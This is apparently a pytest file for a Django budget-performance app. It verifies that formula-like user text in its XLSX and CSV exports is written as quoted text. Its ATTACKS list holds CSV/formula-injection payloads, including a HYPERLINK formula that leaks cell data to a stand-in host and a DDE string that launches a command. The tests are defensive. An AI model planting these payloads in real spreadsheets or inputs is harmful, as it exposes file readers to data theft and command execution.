"""Export sanitising (导出清洗): user text that looks like a formula is written as text in every export.

Before ``jixiao.exports`` (issue 15) the results export wrote its items with xlsxwriter's
``write_row``, which turns ``"=HYPERLINK(…)"`` into a live formula: openpyxl read the finance
bureau's ``/results/export.xlsx`` back with ``data_type == "f"`` (the first test failed there). The
dashboard and the 自评表 already wrote string cells but without the quote prefix (前缀引号), so a
reader who edited such a cell and pressed Enter made it a formula (their tests failed on
``quotePrefix``); there was no CSV rule and each writer made its own workbook (the last two tests
failed). The monthly template's title starts with 部门 and was text before as after.
"""

from __future__ import annotations

import io
import re
from pathlib import Path

import openpyxl
import pytest
from django.test import Client
from tests.web.versions import current_version

from jixiao.exports import csv_text, formula_like
from jixiao.render import render_bytes
from jixiao.report import PerformanceReport

SRC = Path(__file__).resolve().parents[2] / "src" / "jixiao"
FIXTURES = Path(__file__).resolve().parents[1] / "render" / "fixtures"

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"点此")'
ATTACKS = [HYPERLINK, "=2+3", "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]


@pytest.fixture
def world(db, settings, tmp_path):
    from web.conftest import World  # tests/web's one demo data set

    settings.MEDIA_ROOT = tmp_path / "media"
    return World()


def _client(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def _cells(data: bytes, sheet: str) -> list[openpyxl.cell.Cell]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for row in book[sheet].iter_rows() for cell in row]


def _style_quote_prefix(data: bytes, sheet: str, value: str) -> bool:
    cell = next(c for c in _cells(data, sheet) if c.value == value)
    return bool(cell.quotePrefix)


@pytest.mark.django_db
def test_results_export_holds_a_departments_measure_as_text(world) -> None:
    """A department user's rectification measure ``=HYPERLINK(…)`` reaches the finance bureau as text."""
    url = f"/departments/{world.a.pk}/results/rectifications/{world.rectification.pk}/"
    client = _client(world.user_a)
    version = current_version(client, f"/api/departments/{world.a.pk}/rectifications/{world.rectification.pk}")
    response = client.post(url, {"measure": HYPERLINK, "status": "in_progress", "progress": "=2+3", "version": version})
    assert response.status_code == 302
    data = _client(world.finance).get("/results/export.xlsx").content
    cells = {c.value: c for c in _cells(data, "整改事项")}
    for text in (HYPERLINK, "=2+3"):
        assert cells[text].data_type == "s", text  # exactly the user's text, as a string cell
    assert _style_quote_prefix(data, "整改事项", HYPERLINK)  # editing the cell keeps it text
    year = next(c for c in _cells(data, "整改事项") if c.row == 2 and c.column == 2)
    assert (year.value, year.data_type) == (2022, "n")  # numbers stay numbers
    assert not _style_quote_prefix(data, "整改事项", world.rectification.problem)


@pytest.mark.django_db
def test_dashboard_export_holds_a_department_name_as_text(world) -> None:
    world.a.name = "=1+1"
    world.a.save()
    data = _client(world.finance).get("/dashboard/export.xlsx").content
    cell = next(c for c in _cells(data, "部门执行与评价") if c.value == "=1+1")
    assert cell.data_type == "s" and cell.quotePrefix
    assert any(c.data_type == "n" and isinstance(c.value, float) for c in _cells(data, "部门执行与评价"))


@pytest.mark.django_db
def test_projects_export_holds_a_project_name_as_text(world) -> None:
    """A project name ``=HYPERLINK(…)`` typed on the 项目库 form reaches the finance bureau's export as text."""
    client = _client(world.user_a)
    response = client.post("/projects/new/", {"code": "=2+3", "name": HYPERLINK, "start_year": "2022",
                                              "amount": "12.5", "attribute": "new"})
    assert response.status_code == 302
    data = _client(world.finance).get("/projects/export.xlsx").content
    cells = {c.value: c for c in _cells(data, "项目库")}
    for text in (HYPERLINK, "=2+3"):
        assert cells[text].data_type == "s" and cells[text].quotePrefix, text
    assert cells[12.5].data_type == "n"  # the amount stays a number


def test_self_evaluation_form_keeps_its_formulas_and_writes_a_deviation_reason_as_text() -> None:
    """A 偏差原因 of ``=2+3`` in report.xlsx is text; the form's own 执行率/得分/总分 stay formulas."""
    report = PerformanceReport.from_json((FIXTURES / "liwan_2022_full.json").read_bytes())
    data = report.to_json_data()
    indicators = [i for i in data["indicators"]] if "indicators" in data else None
    assert indicators, "the fixture has indicators"
    for indicator, attack in zip(indicators, ATTACKS, strict=False):
        indicator["deviation_reason"] = attack
    import json

    report = PerformanceReport.from_json(json.dumps(data, ensure_ascii=False).encode())
    cells = _cells(render_bytes(report, "xlsx"), "自评表")
    by_value = {c.value: c for c in cells if isinstance(c.value, str)}
    for attack in ATTACKS[: len(indicators)]:
        assert by_value[attack].data_type == "s" and by_value[attack].quotePrefix, repr(attack)
    formulas = [c.value for c in cells if c.data_type == "f"]
    assert any(re.match(r"=ROUND\(", f) for f in formulas) and any(f.startswith("=SUM(") for f in formulas)
    assert all(not f.startswith(tuple(ATTACKS)) for f in formulas)
    assert any(c.data_type == "n" and c.value == 3663.27 for c in cells)


def test_monthly_template_title_is_text() -> None:
    from jixiao.monitor.monthly_xlsx import template_xlsx

    data = template_xlsx(department="=1+1", year=2024, existing={})
    title = _cells(data, "月度执行数")[0]
    assert title.data_type == "s" and title.value.startswith("部门：=1+1")


def test_csv_fields_put_an_apostrophe_before_a_formula() -> None:
    assert [csv_text(v) for v in ("=2+3", "@A1", "-1+1", "\t=1", "正常文字", 12.5, None)] == [
        "'=2+3", "'@A1", "'-1+1", "'\t=1", "正常文字", "12.5", ""]
    assert formula_like("+86 10") and not formula_like("86") and not formula_like(-3)


def test_no_writer_creates_a_workbook_of_its_own() -> None:
    """Every XLSX goes through ``jixiao.exports.Workbook``: no other module calls ``xlsxwriter.Workbook``."""
    offenders = [str(p.relative_to(SRC)) for p in SRC.rglob("*.py")
                 if p.name != "exports.py" and re.search(r"xlsxwriter\.Workbook\(|^import xlsxwriter", p.read_text(), re.M)]
    assert offenders == []
    writers = [str(p.relative_to(SRC)) for p in SRC.rglob("*.py")
               if re.search(r"openpyxl import Workbook|openpyxl\.Workbook\(", p.read_text())]
    assert writers == ["monitor/monthly_xlsx.py"]  # its only text cell goes through exports.openpyxl_text
